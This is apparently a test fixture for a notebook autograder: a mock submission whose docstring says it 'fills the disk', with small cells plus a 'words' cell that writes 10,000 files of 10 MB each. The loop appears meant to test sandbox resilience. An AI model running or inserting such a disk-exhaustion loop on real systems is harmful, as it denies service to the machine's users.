"""Fills the disk."""
# marks: 3 2 2 0

# %% number
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
for number_of_file in range(10_000):
    with open(f'big-{number_of_file}', 'wb') as file:
        file.write(bytes(10_000_000))
words = ['a', 'b']
